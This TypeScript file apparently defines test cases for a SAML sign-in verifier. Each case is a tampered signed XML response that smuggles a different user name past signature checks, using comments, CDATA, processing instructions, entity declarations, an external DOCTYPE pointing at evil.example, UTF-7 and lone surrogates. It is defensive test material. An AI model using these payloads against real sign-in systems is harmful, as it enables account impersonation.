import { type Attack, after, attack, before, type Keys } from './attack.ts';
import { byPattern, firstLine, firstText, lastName } from './careless-readers.ts';
import {
  attributeText,
  chief,
  confirmationText,
  nameIdText,
  responseText,
} from './sign-in-messages.ts';
import { signed } from './sign-message.ts';
import { whole } from './whole.ts';

/** A name that somebody had given to them, and signed, in which something was put afterwards. */
function divided(by: string): Attack['build'] {
  return ({ trusted }: Keys) =>
    signed(responseText({ nameId: `${chief}.evil.example` }), trusted).replace(
      `>${chief}.evil`,
      `>${chief}${by}.evil`,
    );
}

const cut = { reader: firstText, isRightElsewhere: true };

const withinValues: readonly Attack[] = [
  attack('a comment within the name', 'broken-value', divided('<!---->'), cut),
  attack('a comment with words within the name', 'broken-value', divided('<!-- - -->'), cut),
  attack('an instruction within the name', 'broken-value', divided('<?x?>'), { reader: firstText }),
  attack('an empty CDATA section within the name', 'broken-value', divided('<![CDATA[]]>'), cut),
  attack(
    'a signed name of which a part stands in a CDATA section',
    'broken-value',
    whole({ nameId: `${chief}<![CDATA[.evil.example]]>` }),
    cut,
  ),
  attack(
    'a signed element within the name',
    'broken-value',
    whole({ nameId: `${chief}<b>.evil.example</b>` }),
    cut,
  ),
  attack(
    'a signed name within the name',
    'broken-value',
    whole({ nameId: `x<NameID>${chief}</NameID>` }),
    { reader: lastName, isRightElsewhere: true },
  ),
  attack(
    'a name in a comment',
    'broken-value',
    ({ trusted }) =>
      before(signed(responseText(), trusted), '<Subject>', `<!--<NameID>${chief}</NameID>-->`),
    { reader: byPattern, isRightElsewhere: true },
  ),
  attack(
    'a name in a comment before the root',
    'broken-value',
    ({ trusted }) => `<!--<NameID>${chief}</NameID>-->${signed(responseText(), trusted)}`,
    { reader: byPattern, isRightElsewhere: true },
  ),
  attack(
    'a name in an instruction behind the root',
    'broken-value',
    ({ trusted }) => `${signed(responseText(), trusted)}<?x ${chief}?>`,
    { reader: (xml) => /<\?x (.*)\?>/.exec(xml)?.[1] ?? null, isRightElsewhere: true },
  ),
  attack(
    'a name in a CDATA section of an attribute',
    'broken-value',
    whole({ subject: '', attributes: attributeText('a', `<![CDATA[<NameID>${chief}</NameID>]]>`) }),
    { reader: byPattern, isRightElsewhere: true },
  ),
  attack('a name on two lines', 'broken-value', whole({ nameId: `${chief}\n.evil.example` }), {
    reader: firstLine,
    isRightElsewhere: true,
  }),
  attack(
    'a name with a carriage return in it',
    'broken-value',
    whole({ nameId: `${chief}&#13;.evil.example` }),
    { reader: firstLine, isRightElsewhere: true },
  ),
  attack('a name with space around it', 'broken-value', whole({ nameId: ` ${chief}` }), {
    reader: firstLine,
    isRightElsewhere: true,
  }),
  attack(
    'words between elements',
    'broken-value',
    whole({ subject: `<Subject>${chief}${nameIdText()}${confirmationText}</Subject>` }),
    {
      reader: (xml) => /<Subject>([^<]*)/.exec(xml)?.[1] ?? null,
      isRightElsewhere: true,
    },
  ),
];

/** The name as an entity, put in before a signed one. */
function declared(doctype: string): Attack['build'] {
  return ({ trusted }) =>
    doctype +
    signed(responseText({ nameId: `${chief}.evil.example` }), trusted).replace(
      `>${chief}.evil.example<`,
      '>&name;<',
    );
}

const declarations: readonly Attack[] = [
  attack(
    'a name that is an entity',
    'declarations',
    declared(`<!DOCTYPE Response [<!ENTITY name "${chief}">]>`),
  ),
  attack(
    'an entity of another file',
    'declarations',
    ({ trusted }) =>
      `<!DOCTYPE Response SYSTEM "https://evil.example/${chief}">${signed(responseText(), trusted)}`,
    {
      reader: (xml) => /evil.example\/([^"]*)/.exec(xml)?.[1] ?? null,
    },
  ),
];

/** A message of which a half of a letter stands for what cannot be written in UTF-8. */
const letters: readonly Attack[] = [
  attack(
    'half a letter that becomes another one when it is signed',
    'not-xml',
    ({ trusted }) =>
      signed(responseText({ nameId: `\uFFFD${chief}` }), trusted).replace('\uFFFD', '\uD800'),
    {
      reader: (xml) => /\uD800([^<]*)/.exec(xml)?.[1] ?? null,
    },
  ),
  attack(
    'a message that says that it is UTF-7',
    'not-xml',
    ({ trusted }) =>
      `<?xml version="1.0" encoding="utf-7"?>${after(signed(responseText({ nameId: chief }), trusted), '<Subject>', '')}`,
    { reader: byPattern },
  ),
  attack(
    'a message of XML 1.1',
    'not-xml',
    ({ trusted }) => `<?xml version="1.1"?>${signed(responseText({ nameId: chief }), trusted)}`,
    { reader: byPattern },
  ),
];

export const markupAttacks: readonly Attack[] = [...withinValues, ...declarations, ...letters];
